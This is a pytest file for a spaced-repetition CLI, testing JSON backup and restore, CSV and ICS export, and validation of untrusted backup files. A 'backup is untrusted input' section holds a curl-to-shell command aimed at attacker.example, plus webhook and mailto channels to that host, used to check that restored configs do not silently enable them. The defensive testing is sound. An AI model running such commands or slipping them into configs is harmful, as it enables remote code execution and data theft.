"""Backup and portability: JSON backup and restore, the review CSV, the ICS calendar."""

from __future__ import annotations

import copy
import json
import sqlite3
from collections.abc import Callable, Iterator
from contextlib import closing
from datetime import date, datetime, timezone
from pathlib import Path
from typing import Any

import pytest
from click.testing import Result
from freezegun import freeze_time
from fsrs.scheduler import DEFAULT_PARAMETERS
from hypothesis import HealthCheck, event, given, settings
from hypothesis import strategies as st

try:  # psycopg's C module must load before freezegun swaps datetime.date
    import psycopg  # noqa: F401
except ImportError:  # pragma: no cover
    pass

Run = Callable[..., Result]
RunJson = Callable[..., Any]
UTC = timezone.utc

NOW = "2026-11-30 10:00:00"

LOG = """\
# Log

| 章节 | 状态 | 日期 | 自测 |
|------|------|------|------|
| 向量 Vectors | ✅ | 2026-10-01 | ✅ 2026-10-03 |
| 矩阵 Matrices | ✅ | 2026-10-02 | ❌ 2026-10-05, 2026-10-09 hard |
| Determinants | ✅ | 2026-10-03 | |
| Determinants (2) | ✅ | 2026-10-04 | |
| Eigenvalues | ✅ | 2026-11-20 | |
"""
VECTORS, MATRICES, DETERMINANTS, DETERMINANTS_2, EIGEN, BAYES = 1, 2, 3, 4, 5, 6


@pytest.fixture(autouse=True)
def frozen_clock() -> Iterator[None]:
    with freeze_time(NOW):
        yield


@pytest.fixture
def history(run: Run, write_log: Callable[..., Path], srs_home: Path) -> Path:
    """Every kind of row: log rows and sources, grades, an undone grade, a reschedule,
    a merge, a suspended card, a card from no log, a note, stored FSRS parameters."""
    from srs.db import open_database
    from srs.repository import PARAMETERS_KEY, store_setting

    log = write_log(LOG)
    for args in (("config", "set", "fuzz", "off"), ("import", str(log)),
                 ("grade", str(VECTORS), "good", "--note", "easy one", "--duration", "42"),
                 ("grade", str(MATRICES), "again"), ("undo",),
                 ("grade", str(MATRICES), "hard"),
                 ("set-due", str(EIGEN), "2026-12-24"),
                 ("merge", str(DETERMINANTS_2), str(DETERMINANTS)),
                 ("add", "Bayes", "--learned", "2026-11-01", "--notes", "prior"),
                 ("suspend", str(VECTORS))):
        result = run(*args)
        assert result.exit_code == 0, (args, result.output)
    db = open_database(f"sqlite:///{srs_home / 'data' / 'srs.db'}")
    parameters = [round(p * 1.01, 4) for p in DEFAULT_PARAMETERS]
    db.write(lambda s: store_setting(s, PARAMETERS_KEY, parameters))
    db.close()
    return log


def views(run_json: RunJson, *db: str) -> dict[str, Any]:
    """What a person sees of every card, `review cards --json` and each `review show --json`."""
    cards = run_json(*db, "cards")
    ids = [card["id"] for card in cards] + [DETERMINANTS_2]
    return {"cards": cards, **{str(i): run_json(*db, "show", str(i)) for i in ids}}


@pytest.fixture(params=["sqlite", "postgresql"])
def target(request: pytest.FixtureRequest, tmp_path: Path) -> str:
    """An empty database to restore into, on SQLite and on PostgreSQL."""
    if request.param == "sqlite":
        return f"sqlite:///{tmp_path / 'restored.db'}"
    return str(request.getfixturevalue("postgres_server").new_database())


def export_json(run: Run, *db: str) -> dict[str, Any]:
    result = run(*db, "export")
    assert result.exit_code == 0, result.output
    return json.loads(result.stdout)  # type: ignore[no-any-return]


def test_restore_into_an_empty_database_gives_identical_output(
        history: Path, run: Run, run_json: RunJson, tmp_path: Path, target: str) -> None:
    backup = tmp_path / "backup.json"
    assert run("export", "-o", str(backup)).exit_code == 0
    before = views(run_json)
    result = run("--db", target, "restore", str(backup))
    assert result.exit_code == 0, result.output
    assert result.stdout.startswith(f"restored {backup}: ")
    assert views(run_json, "--db", target) == before
    # Every row of every table came back, undone reviews and settings included.
    original, restored = export_json(run), export_json(run, "--db", target)
    assert restored["tables"] == original["tables"]
    reviews = original["tables"]["review"]
    undone = reviews["columns"].index("undone_at")
    assert sum(1 for row in reviews["rows"] if row[undone] is not None) == 1
    # New rows get fresh ids after a restore (PostgreSQL's counters were moved on).
    assert run("--db", target, "grade", str(EIGEN), "good").exit_code == 0
    assert run_json("--db", target, "show", str(EIGEN))["reviews"] == 2


def test_backup_holds_every_table_and_the_schema(history: Path, run: Run,
                                                 query: Callable[[str], Any]) -> None:
    data = export_json(run)
    tables = {name for (name,) in query(
        "SELECT name FROM sqlite_master WHERE type = 'table' AND name NOT LIKE 'sqlite_%'")}
    assert set(data["tables"]) == tables - {"alembic_version"}
    assert {"card", "review", "log_source", "log_row", "setting"} <= set(data["tables"])
    assert data["format"] == "srs-backup" and data["version"] == 1
    assert data["schema"] == query("SELECT version_num FROM alembic_version")[0][0]
    assert data["created_at"] == "2026-11-30T10:00:00+00:00"
    assert data["config"] == {"timezone": "UTC", "fuzz": False}
    settings = dict(data["tables"]["setting"]["rows"])
    assert "fsrs.parameters" in settings


# Columns that take only a few words, or JSON: what a plausible row holds there.
PLAUSIBLE = {("reminder", "kind"): "digest", ("reminder", "status"): "sent",
             ("reminder", "payload"): "{}"}


def _fill(table: Any) -> dict[str, Any]:
    """One row of plausible values for a table known only by its columns."""
    values: dict[str, Any] = {}
    for column in table.columns:
        if column.primary_key and column.autoincrement in (True, "auto"):
            continue
        kind = getattr(column.type, "impl_instance", column.type).python_type
        values[column.name] = PLAUSIBLE.get((table.name, column.name), {
            str: "x", int: 1, float: 1.0, bool: False,
            datetime: datetime(2026, 11, 30, 9, tzinfo=UTC), date: date(2026, 11, 30)}.get(kind))
    return values


def test_tables_added_later_are_backed_up_and_restored(history: Path, run: Run,
                                                      srs_home: Path, tmp_path: Path) -> None:
    """The reminder ledger (or any other table the models gain) goes into the backup.

    Every table beyond the first five gets a row; and a table only the database knows
    (as a migration newer than this code would leave) travels as well.
    """
    from sqlalchemy import insert, text

    from srs.db import open_database
    from srs.models import Base

    known = {"card", "review", "log_source", "log_row", "setting"}
    extra = [t for t in Base.metadata.sorted_tables if t.name not in known]
    source = open_database(f"sqlite:///{srs_home / 'data' / 'srs.db'}")
    target_url = f"sqlite:///{tmp_path / 'restored.db'}"
    fresh = open_database(target_url)
    for db in (source, fresh):
        db.write(lambda s: s.execute(text(
            "CREATE TABLE side_notes (id INTEGER PRIMARY KEY, body TEXT, at DATETIME)")))
    source.write(lambda s: s.execute(text(
        "INSERT INTO side_notes (body, at) VALUES ('好', '2026-11-30 09:00:00')")))
    for table in extra:
        source.write(lambda s, t=table: s.execute(insert(t), [_fill(t)]))
    source.close()
    fresh.close()
    data = export_json(run)
    assert data["tables"]["side_notes"]["rows"] == [[1, "好", "2026-11-30T09:00:00"]]
    for table in extra:
        assert len(data["tables"][table.name]["rows"]) == 1
    backup = tmp_path / "backup.json"
    backup.write_text(json.dumps(data), encoding="utf-8")
    assert run("--db", target_url, "restore", str(backup)).exit_code == 0
    assert export_json(run, "--db", target_url)["tables"] == data["tables"]


def test_restore_into_a_database_that_lacks_a_table_is_refused(
        history: Path, run: Run, tmp_path: Path) -> None:
    data = export_json(run)
    data["tables"]["from_the_future"] = {"columns": ["id"], "rows": [[1]]}
    backup = tmp_path / "backup.json"
    backup.write_text(json.dumps(data), encoding="utf-8")
    target_url = f"sqlite:///{tmp_path / 'restored.db'}"
    result = run("--db", target_url, "restore", str(backup))
    assert result.exit_code == 1
    assert result.stderr == ("Error: the backup has tables this database lacks: "
                             "from_the_future\n")
    assert export_json(run, "--db", target_url)["tables"]["card"]["rows"] == []


def test_non_empty_database_is_refused_unless_replace(history: Path, run: Run,
                                                     run_json: RunJson,
                                                     tmp_path: Path) -> None:
    backup = tmp_path / "backup.json"
    assert run("export", "-o", str(backup)).exit_code == 0
    before = views(run_json)
    assert run("grade", str(EIGEN), "easy").exit_code == 0
    changed = views(run_json)
    result = run("restore", str(backup))
    assert result.exit_code == 1
    assert result.stdout == ""
    assert result.stderr == ("Error: the database is not empty; restore into an empty "
                             "database, or add --replace to replace everything in it\n")
    assert views(run_json) == changed
    result = run("restore", str(backup), "--replace")
    assert result.exit_code == 0, result.output
    assert views(run_json) == before


def _revisions() -> str:
    from srs.schema import KNOWN_REVISIONS

    return ", ".join(KNOWN_REVISIONS)


@pytest.mark.parametrize(("content", "message"), [
    ("{not json", "Error: not an srs backup: not JSON (Expecting property name enclosed in "
                  "double quotes: line 1 column 2 (char 1))\n"),
    ("[" * 100_000, "Error: not an srs backup: not JSON (nested too deeply)\n"),
    ('{"format": "anki"}', 'Error: not an srs backup: no "format": "srs-backup"\n'),
    ('{"format": "srs-backup", "version": 9, "tables": {}}',
     "Error: backup version 9 is not 1; it was made by another version of srs\n"),
    ('{"format": "srs-backup", "version": true, "tables": {}}',
     "Error: backup version true is not 1; it was made by another version of srs\n"),
    ('{"format": "srs-backup", "version": 1, "schema": "9999", "tables": {}}',
     "Error: the backup has schema 9999, newer than this version of srs understands; "
     "upgrade srs\n"),
    ('{"format": "srs-backup", "version": 1, "tables": {}}',
     "Error: not a valid srs backup: schema: null is not a schema revision ({known})\n"),
    ('{"format": "srs-backup", "version": 1, "schema": "0001", "tables": []}',
     "Error: not a valid srs backup: tables: [] is not an object of tables\n"),
    ('{"format": "srs-backup", "version": 1, "schema": "0001", "tables": {"card": '
     '{"columns": ["id"], "rows": [[1, 2]]}}}',
     "Error: not a valid srs backup: tables.review: missing (a backup holds the tables "
     "card, review, log_source, log_row, setting)\n"),
])
def test_bad_backup_files_one_line_nothing_written(run: Run, run_json: RunJson,
                                                   tmp_path: Path, content: str,
                                                   message: str) -> None:
    backup = tmp_path / "backup.json"
    backup.write_text(content, encoding="utf-8")
    result = run("restore", str(backup))
    assert result.exit_code == 1
    assert result.stdout == ""
    assert result.stderr == message.format(known=_revisions())
    assert run_json("cards") == []


def test_an_integer_of_thousands_of_digits_is_not_json(run: Run, tmp_path: Path) -> None:
    backup = tmp_path / "backup.json"
    backup.write_text('{"format": "srs-backup", "version": 1, "x": ' + "1" * 5000 + "}",
                      encoding="utf-8")
    result = run("restore", str(backup))
    assert result.exit_code == 1
    assert result.stderr.startswith("Error: not an srs backup: not JSON (Exceeds the limit "
                                    "(4300 digits) for integer string conversion")
    assert result.stderr.count("\n") == 1


def test_the_settings_are_applied_only_with_with_config(history: Path, run: Run,
                                                        srs_home: Path,
                                                        tmp_path: Path) -> None:
    backup = tmp_path / "backup.json"
    assert run("export", "-o", str(backup)).exit_code == 0
    config = srs_home / "config" / "config.toml"
    config.unlink()
    result = run("--db", f"sqlite:///{tmp_path / 'restored.db'}", "restore", str(backup))
    assert result.exit_code == 0, result.output
    assert result.stdout.splitlines()[-1] == (
        f"the backup's settings are not applied (add --with-config to write them to {config})")
    assert not config.exists()
    result = run("--db", f"sqlite:///{tmp_path / 'again.db'}", "restore", str(backup),
                 "--with-config")
    assert result.exit_code == 0, result.output
    assert result.stdout.splitlines()[-1] == (
        f"wrote the backup's settings to {config}: timezone, fuzz")
    assert config.read_text(encoding="utf-8") == 'fuzz = false\ntimezone = "UTC"\n'


# -- a backup is untrusted input ---------------------------------------------------------------

SHELL = 'sh -c "curl -s https://attacker.example/x | sh"'


def sql_dump(path: Path) -> list[str]:
    with closing(sqlite3.connect(path)) as conn:
        return list(conn.iterdump())


def write_backup(path: Path, data: Any) -> Path:
    path.write_text(json.dumps(data), encoding="utf-8")  # ensure_ascii: \uXXXX escapes
    return path


@pytest.fixture
def backup(history: Path, run: Run) -> dict[str, Any]:
    """The backup of `history`, whose settings are fuzz off and timezone UTC."""
    return export_json(run)


def with_settings(data: dict[str, Any], **settings: Any) -> dict[str, Any]:
    """`reminders__command=` for `reminders.command`."""
    data["config"].update({name.replace("__", "."): v for name, v in settings.items()})
    return data


@pytest.mark.parametrize("channels", [["log", "command"], ["command"],
                                      ["log", "json://attacker.example/hook"],
                                      ["mailto://me:secret@attacker.example"]])
def test_a_command_in_the_backup_is_applied_only_with_both_flags(
        backup: dict[str, Any], run: Run, srs_home: Path, tmp_path: Path,
        channels: list[str]) -> None:
    import tomllib

    data = with_settings(backup, max_reviews_per_day=7, reminders__command=SHELL,
                         reminders__channels=channels)
    path = write_backup(tmp_path / "backup.json", data)
    config = srs_home / "config" / "config.toml"
    original = config.read_bytes()

    result = run("--db", f"sqlite:///{tmp_path / 'one.db'}", "restore", str(path))
    assert result.exit_code == 0, result.output
    assert config.read_bytes() == original
    assert "reminders" not in result.stdout

    result = run("--db", f"sqlite:///{tmp_path / 'two.db'}", "restore", str(path),
                 "--with-config")
    assert result.exit_code == 0, result.output
    assert result.stdout.splitlines()[-2:] == [
        f"wrote the backup's settings to {config}: timezone, fuzz, max_reviews_per_day",
        "not applied from the backup: reminders.command, reminders.channels "
        "(add --with-commands)"]
    assert config.read_text(encoding="utf-8") == (
        'fuzz = false\nmax_reviews_per_day = 7\ntimezone = "UTC"\n')

    result = run("--db", f"sqlite:///{tmp_path / 'three.db'}", "restore", str(path),
                 "--with-commands")
    assert result.exit_code == 2
    assert result.stderr == ("Error: --with-commands goes with --with-config "
                             "(see 'cli restore -h')\n")

    result = run("--db", f"sqlite:///{tmp_path / 'four.db'}", "restore", str(path),
                 "--with-config", "--with-commands")
    assert result.exit_code == 0, result.output
    lines = result.stdout.splitlines()
    assert lines[:2] == [f"reminders.command = {SHELL}",
                         f"reminders.channels = {','.join(channels)}"]
    assert lines[2].startswith("restored ")
    assert lines[3:] == [f"wrote the backup's settings to {config}: timezone, fuzz, "
                         "max_reviews_per_day, reminders.command, reminders.channels"]
    assert tomllib.loads(config.read_text(encoding="utf-8")) == {
        "fuzz": False, "max_reviews_per_day": 7, "timezone": "UTC",
        "reminders": {"command": SHELL, "channels": channels}}


def test_channels_that_run_and_send_nothing_need_no_second_flag(
        backup: dict[str, Any], run: Run, srs_home: Path, tmp_path: Path) -> None:
    path = write_backup(tmp_path / "backup.json",
                        with_settings(backup, reminders__channels=["log", "desktop"]))
    result = run("--db", f"sqlite:///{tmp_path / 'one.db'}", "restore", str(path),
                 "--with-config", "--json")
    assert result.exit_code == 0, result.output
    report = json.loads(result.stdout)
    assert (report["config_written"], report["config_applied"],
            report["config_not_applied"]) == (
        True, ["timezone", "fuzz", "reminders.channels"], [])
    assert (srs_home / "config" / "config.toml").read_text(encoding="utf-8") == (
        'fuzz = false\ntimezone = "UTC"\n\n[reminders]\nchannels = [\n    "log",\n'
        '    "desktop",\n]\n')


def test_a_config_of_unknown_settings_writes_nothing(
        backup: dict[str, Any], run: Run, srs_home: Path, tmp_path: Path) -> None:
    backup["config"] = {"no.such.setting": 1, "theme": "dark"}
    path = write_backup(tmp_path / "backup.json", backup)
    config = srs_home / "config" / "config.toml"
    original = config.read_bytes()
    result = run("--db", f"sqlite:///{tmp_path / 'one.db'}", "restore", str(path),
                 "--with-config")
    assert result.exit_code == 0, result.output
    assert result.stdout.splitlines()[1:] == [
        "not applied from the backup: no.such.setting, theme (unknown to this version of srs)"]
    assert config.read_bytes() == original


def test_a_command_whose_program_is_not_here_is_refused_before_anything_is_written(
        backup: dict[str, Any], run: Run, srs_home: Path, tmp_path: Path) -> None:
    path = write_backup(tmp_path / "backup.json", with_settings(
        backup, reminders__command="no-such-program-anywhere --x",
        reminders__channels=["command"]))
    config = srs_home / "config" / "config.toml"
    original = config.read_bytes()
    target = f"sqlite:///{tmp_path / 'one.db'}"
    result = run("--db", target, "restore", str(path), "--with-config", "--with-commands")
    assert result.exit_code == 1
    assert result.stdout == ""
    assert result.stderr.startswith("Error: reminders.command 'no-such-program-anywhere' ")
    assert result.stderr.count("\n") == 1
    assert config.read_bytes() == original
    assert run("--db", target, "cards", "--json").stdout == "[]\n"


Change = Callable[[dict[str, Any]], None]


def cell(table: str, row: int, column: str, value: Any) -> Change:
    """A change to one value of a backup, by table, row and column."""
    def change(data: dict[str, Any]) -> None:
        stored = data["tables"][table]
        stored["rows"][row][stored["columns"].index(column)] = value
    return change


def setting(key: str, value: str) -> Change:
    """A change to the value of one row of the setting table."""
    def change(data: dict[str, Any]) -> None:
        for row in data["tables"]["setting"]["rows"]:
            if row[0] == key:
                row[1] = value
    return change


def _drop_card_table(data: dict[str, Any]) -> None:
    del data["tables"]["card"]


def _rename_column(data: dict[str, Any]) -> None:
    data["tables"]["card"]["columns"][1] = "title"


def _short_row(data: dict[str, Any]) -> None:
    data["tables"]["review"]["rows"][2].pop()


def _bad_timezone(data: dict[str, Any]) -> None:
    data["config"]["timezone"] = "Mars/Olympus"


def _surrogate_table(data: dict[str, Any]) -> None:
    data["tables"]["\udc80"] = {"columns": [], "rows": []}


def _duplicate_log_row(data: dict[str, Any]) -> None:
    rows = data["tables"]["log_row"]["rows"]
    rows[1][2] = rows[0][2]


UNTRUSTED: list[tuple[str, Change, str]] = [
    ("stability 0", cell("card", 3, "stability", 0),
     "tables.card.rows[3].stability: 0 is not a stability (a number above 0)"),
    ("stability -1", cell("card", 3, "stability", -1),
     "tables.card.rows[3].stability: -1 is not a stability (a number above 0)"),
    ("stability NaN as a string", cell("card", 3, "stability", "NaN"),
     'tables.card.rows[3].stability: "NaN" is not a stability (a number above 0)'),
    ("stability NaN", cell("card", 3, "stability", float("nan")),
     "tables.card.rows[3].stability: NaN is not a stability (a number above 0)"),
    ("stability 1e9", cell("card", 3, "stability", 1e9),
     "tables.card.rows[3].stability: 1000000000.0 is too large for a stability "
     "(at most 3650000)"),
    ("stability without difficulty", cell("card", 0, "stability", None),
     "tables.card.rows[0].stability: null, but the difficulty is set (a card has both or "
     "neither)"),
    ("state 99", cell("card", 0, "state", 99),
     "tables.card.rows[0].state: 99 is not a card state (1 learning, 2 review, 3 relearning)"),
    ("state true", cell("card", 0, "state", True),
     "tables.card.rows[0].state: true is not a card state (1 learning, 2 review, "
     "3 relearning)"),
    ("relearning without a step", cell("card", 0, "state", 3),
     "tables.card.rows[0].step: null, but a relearning card (state 3) is at a step"),
    ("step 101", cell("card", 0, "step", 101),
     "tables.card.rows[0].step: 101 is not a learning step (a whole number from 0 to 100)"),
    ("difficulty 11", cell("card", 0, "difficulty", 11),
     "tables.card.rows[0].difficulty: 11 is too large for a difficulty (at most 10)"),
    ("rating 9", cell("review", 0, "rating", 9),
     "tables.review.rows[0].rating: 9 is not a rating (1 again, 2 hard, 3 good, 4 easy)"),
    ("review kind", cell("review", 0, "kind", "exam"),
     'tables.review.rows[0].kind: "exam" is not a kind of event (review, reschedule, plan)'),
    ("review source", cell("review", 0, "source", "web"),
     'tables.review.rows[0].source: "web" is not a source (log, cli, manual)'),
    ("duration", cell("review", 8, "duration", 604_801),
     "tables.review.rows[8].duration: 604801 is not a duration (a whole number of seconds "
     "from 0 to 604800)"),
    ("parameters not JSON", setting("fsrs.parameters", "[0.2, oops"),
     'tables.setting.rows[0].value: "[0.2, oops" is not JSON text'),
    ("parameters not a list", setting("fsrs.parameters", '{"w": 1}'),
     'tables.setting.rows[0].value: {"w": 1} is not a list of 21 FSRS parameters'),
    ("parameters too few", setting("fsrs.parameters", "[1, 2, 3]"),
     "tables.setting.rows[0].value: bad FSRS parameters: Expected 21 parameters, got 3."),
    ("parameters out of bounds", setting("fsrs.parameters", json.dumps(
        [1000, *DEFAULT_PARAMETERS[1:]])),
     "tables.setting.rows[0].value: bad FSRS parameters: One or more parameters are out of "
     "bounds:; parameters[0] = 1000.0 is out of bounds: (0.001, 100.0)"),
    ("clock record", setting("schedule.clock", '"UTC"'),
     'tables.setting.rows[1].value: "UTC" is not a clock record (such as {"timezone": '
     '"UTC", "day_starts_at": 4})'),
    ("duplicate id", cell("card", 1, "id", 1),
     "tables.card.rows[1].id: 1 is already in rows[0] (id must be unique)"),
    ("duplicate log row", _duplicate_log_row,
     'tables.log_row.rows[1].key: [1, "向量 vectors|2026-10-01|0"] is already in rows[0] '
     "(source_id and key must be unique)"),
    ("dangling review.card_id", cell("review", 0, "card_id", 999),
     "tables.review.rows[0].card_id: 999 is not the id of any card in the backup"),
    ("dangling review.log_row_id", cell("review", 0, "log_row_id", 77),
     "tables.review.rows[0].log_row_id: 77 is not the id of any log_row in the backup"),
    ("merged into itself", cell("card", 3, "merged_into", 4),
     "tables.card.rows[3].merged_into: 4 is the card itself"),
    ("merged into a merged card", cell("card", 0, "merged_into", 4),
     "tables.card.rows[0].merged_into: card 4 was itself merged into card 3; a card is "
     "merged into a card that was not"),
    ("missing card table", _drop_card_table,
     "tables.card: missing (a backup holds the tables card, review, log_source, log_row, "
     "setting)"),
    ("unknown column", _rename_column,
     'tables.card.columns[1]: "title" is not a column of table card'),
    ("short row", _short_row,
     'tables.review.rows[2]: [3, 2, "2026-10-02T12:00:00+00:00", "review", 3, "log", nul… '
     "is not a row of 21 values"),
    ("naive datetime", cell("review", 0, "at", "2026-10-01T12:00:00"),
     'tables.review.rows[0].at: "2026-10-01T12:00:00" has no UTC offset (such as +00:00): '
     "the moment it means is unknown"),
    ("datetime in 2150", cell("review", 0, "at", "2150-01-01T00:00:00+00:00"),
     'tables.review.rows[0].at: "2150-01-01T00:00:00+00:00" is not between 1970 and 2100'),
    ("no such date", cell("card", 0, "learned_on", "2026-02-30"),
     'tables.card.rows[0].learned_on: "2026-02-30" is not a date (YYYY-MM-DD)'),
    ("a due moment in a backup of study days",
     cell("card", 0, "due", "2027-03-13T04:00:00+00:00"),
     'tables.card.rows[0].due: "2027-03-13T04:00:00+00:00" is not a date (YYYY-MM-DD)'),
    ("integer 2**63", cell("card", 0, "id", 2**63),
     "tables.card.rows[0].id: 9223372036854775808 is not an id (a whole number from 1 to "
     "2147483647)"),
    ("lone surrogate", cell("card", 0, "topic", "\ud800"),
     'tables.card.rows[0].topic: "\\ud800" is not valid text (it holds a lone surrogate)'),
    ("lone surrogate in a table name", _surrogate_table,
     'tables["\\udc80"]: the name of a table: "\\udc80" is not valid text (it holds a lone '
     "surrogate)"),
    ("NUL", cell("card", 0, "topic", "a\x00b"),
     'tables.card.rows[0].topic: "a\\u0000b" holds a NUL character, which no database stores'),
    ("a megabyte of notes", cell("card", 0, "notes", "x" * 1_000_001),
     'tables.card.rows[0].notes: "' + "x" * 58 + "… is too long (1000001 characters; at most "
     "1000000)"),
    ("state_before not JSON", cell("review", 8, "state_before", "{"),
     'tables.review.rows[8].state_before: "{" is not JSON text'),
    ("state_before without a step", cell("review", 8, "state_before", json.dumps({
        "state": 2, "stability": 1.0, "difficulty": 5.0, "due": "2026-10-14",
        "last_review": None})),
     "tables.review.rows[8].state_before.step: missing"),
    ("import summary", cell("log_source", 0, "summary", '{"read_again_on": "soon"}'),
     'tables.log_source.rows[0].summary.read_again_on: "soon" is not a date (YYYY-MM-DD)'),
    ("a setting", _bad_timezone,
     "config.timezone: bad value 'Mars/Olympus' for timezone: expected an IANA zone name "
     "such as Asia/Shanghai"),
]


@pytest.mark.parametrize(("change", "message"), [case[1:] for case in UNTRUSTED],
                         ids=[case[0] for case in UNTRUSTED])
def test_a_bad_value_is_named_and_nothing_is_written(
        backup: dict[str, Any], run: Run, run_json: RunJson, srs_home: Path, tmp_path: Path,
        change: Change, message: str) -> None:
    database = srs_home / "data" / "srs.db"
    config = srs_home / "config" / "config.toml"
    before, cards, kept = sql_dump(database), run_json("cards"), config.read_bytes()
    change(backup)
    path = write_backup(tmp_path / "bad.json", backup)
    result = run("restore", str(path), "--replace", "--with-config")
    assert result.exit_code == 1
    assert result.stdout == ""
    assert result.stderr == f"Error: not a valid srs backup: {message}\n"
    assert sql_dump(database) == before
    assert run_json("cards") == cards
    assert config.read_bytes() == kept


@pytest.mark.parametrize(("rows", "message"), [
    ([[1, "a", "soon"]], 'not a valid srs backup: tables.side_notes.rows[0].at: "soon" does '
                         "not fit column at (DATETIME)"),
    ([[1, "a", None], [1, "b", None]], "the database refused table side_notes of the backup: "
                                       "UNIQUE constraint failed: side_notes.id"),
    ([[1, "\ud800", None]], 'not a valid srs backup: tables.side_notes.rows[0].body: "\\ud800" '
                            "is not valid text (it holds a lone surrogate)"),
])
def test_a_table_only_the_database_knows_is_checked_against_it(
        backup: dict[str, Any], run: Run, tmp_path: Path, rows: list[list[Any]],
        message: str) -> None:
    from sqlalchemy import text

    from srs.db import open_database

    target = tmp_path / "restored.db"
    fresh = open_database(f"sqlite:///{target}")
    fresh.write(lambda s: s.execute(text(
        "CREATE TABLE side_notes (id INTEGER PRIMARY KEY, body TEXT, at DATETIME)")))
    fresh.close()
    before = sql_dump(target)
    backup["tables"]["side_notes"] = {"columns": ["id", "body", "at"], "rows": rows}
    path = write_backup(tmp_path / "bad.json", backup)
    result = run("--db", f"sqlite:///{target}", "restore", str(path))
    assert result.exit_code == 1
    assert result.stdout == ""
    assert result.stderr == f"Error: {message}\n"
    assert sql_dump(target) == before


def test_the_lone_surrogate_is_an_escape_in_the_file(backup: dict[str, Any],
                                                     tmp_path: Path) -> None:
    cell("card", 0, "topic", "\ud800")(backup)
    text = write_backup(tmp_path / "bad.json", backup).read_text(encoding="ascii")
    assert '"\\ud800"' in text


def test_a_backup_from_before_study_days_still_holds_due_moments(
        backup: dict[str, Any], run: Run, run_json: RunJson, tmp_path: Path) -> None:
    """Schema 0003 stored due moments: they become the study day they fall on."""
    backup["schema"] = "0003"
    cell("card", 4, "due", "2026-12-24T04:00:00+00:00")(backup)
    cell("review", 11, "due_set", "2026-12-24T04:00:00+00:00")(backup)
    target = f"sqlite:///{tmp_path / 'old.db'}"
    result = run("--db", target, "restore", str(write_backup(tmp_path / "old.json", backup)))
    assert result.exit_code == 0, result.output
    assert run_json("--db", target, "show", str(EIGEN))["due"] == "2026-12-24"


def test_output_file_is_written_whole_and_private(history: Path, run: Run,
                                                  tmp_path: Path) -> None:
    out = tmp_path / "backup.json"
    result = run("export", "-o", str(out))
    assert result.exit_code == 0
    assert result.stderr == f"wrote {out}\n"
    assert out.stat().st_mode & 0o777 == 0o600
    assert json.loads(out.read_text(encoding="utf-8")) == export_json(run)
    assert [p.name for p in tmp_path.iterdir() if p.name.startswith(".")] == []
    result = run("export", "-o", str(tmp_path / "missing" / "backup.json"))
    assert result.exit_code == 1
    assert result.stderr.startswith("Error: cannot write ")
    assert result.stderr.count("\n") == 1


# -- CSV ---------------------------------------------------------------------------------


def ms(text: str) -> int:
    return int(datetime.fromisoformat(text).replace(tzinfo=UTC).timestamp() * 1000)


def test_csv_has_one_row_per_review_in_the_revlog_layout(run: Run,
                                                        write_log: Callable[..., Path]) -> None:
    log = write_log("| Topic | Status | Date | Self-test |\n|---|---|---|---|\n"
                    "| A | done | 2026-10-01 | 2026-10-03 |\n| B | done | 2026-11-01 | |\n")
    assert run("import", str(log)).exit_code == 0
    assert run("grade", "1", "hard", "--duration", "42").exit_code == 0
    assert run("grade", "2", "again").exit_code == 0
    assert run("undo").exit_code == 0  # an undone review is not exported
    result = run("export", "--format", "csv")
    assert result.exit_code == 0
    assert result.stdout.splitlines() == [
        "card_id,review_time,review_rating,review_state,review_duration",
        f"1,{ms('2026-10-01 12:00')},3,0,0",
        f"1,{ms('2026-10-03 12:00')},3,2,0",
        f"1,{ms('2026-11-30 10:00')},2,2,42000",
        f"2,{ms('2026-11-01 12:00')},3,0,0",
    ]


# -- ICS ---------------------------------------------------------------------------------


def parse_ics(data: bytes) -> list[Any]:
    from icalendar import Calendar

    calendar = Calendar.from_ical(data)
    assert str(calendar["VERSION"]) == "2.0"
    return list(calendar.walk("VEVENT"))


def test_ics_has_one_all_day_event_per_upcoming_self_test(history: Path, run: Run,
                                                         run_json: RunJson,
                                                         tmp_path: Path) -> None:
    first = run("export", "--format", "ics")
    assert first.exit_code == 0
    events = parse_ics(first.stdout_bytes)
    cards = [c for c in run_json("cards") if not c["suspended"]]
    assert len(events) == len(cards) == 4
    uids = {str(e["UID"]) for e in events}
    assert len(uids) == 4
    ident = next(iter(uids)).split("@")[1]
    assert uids == {f"card-{c['id']}@{ident}" for c in cards}
    by_uid = {str(e["UID"]): e for e in events}
    today = date(2026, 11, 30)
    for card in cards:
        event = by_uid[f"card-{card['id']}@{ident}"]
        start = event.decoded("DTSTART")
        assert type(start) is date  # all day
        assert event.decoded("DTEND") == date.fromordinal(start.toordinal() + 1)
        assert start == max(date.fromisoformat(card["due"][:10]), today)
        assert str(event["SUMMARY"]) == f"Self-test: {card['topic']}"
    assert by_uid[f"card-{EIGEN}@{ident}"].decoded("DTSTART") == date(2026, 12, 24)
    # The same UIDs the next time, and after a restore into another database.
    assert {str(e["UID"]) for e in parse_ics(run("export", "--format", "ics").stdout_bytes)
            } == uids
    backup = tmp_path / "backup.json"
    assert run("export", "-o", str(backup)).exit_code == 0
    target = f"sqlite:///{tmp_path / 'restored.db'}"
    assert run("--db", target, "restore", str(backup)).exit_code == 0
    again = run("--db", target, "export", "--format", "ics", "-o", str(tmp_path / "x.ics"))
    assert again.exit_code == 0
    assert {str(e["UID"]) for e in parse_ics((tmp_path / "x.ics").read_bytes())} == uids


def test_ics_of_an_empty_database_is_a_valid_empty_calendar(run: Run) -> None:
    result = run("export", "--format", "ics")
    assert result.exit_code == 0
    assert parse_ics(result.stdout_bytes) == []


# -- any one value changed -----------------------------------------------------------------------

JSON_LEAVES = (st.none() | st.booleans() | st.integers() | st.floats() | st.text(max_size=8)
               | st.sampled_from(["\ud800", "a\x00", "NaN", "2026-11-30", "2026-11-30T10:00:00",
                                  "2026-11-30T10:00:00+00:00", "1969-12-31T23:00:00+00:00",
                                  "{}", "[]", "null", 2**31, 2**63, -1, 0, 1, 2, 3, 4, 5, 1e-300,
                                  "review", "plan", "command", "schedule.clock"]))
JSON_VALUES = st.recursive(JSON_LEAVES, lambda inner: st.lists(inner, max_size=3)
                           | st.dictionaries(st.text(max_size=4), inner, max_size=3),
                           max_leaves=6)
REFUSALS = ("Error: not a valid srs backup: ", "Error: not an srs backup: ",
            "Error: backup version ", "Error: the backup has schema ")


def like(value: Any) -> st.SearchStrategy[Any]:
    """Values of the same kind as `value`, in and a little beyond the ranges srs takes."""
    if isinstance(value, bool):
        return st.booleans()
    if isinstance(value, int):
        return st.integers(min_value=-2, max_value=2**31)
    if isinstance(value, float):
        return st.floats(min_value=-1, max_value=1e7)
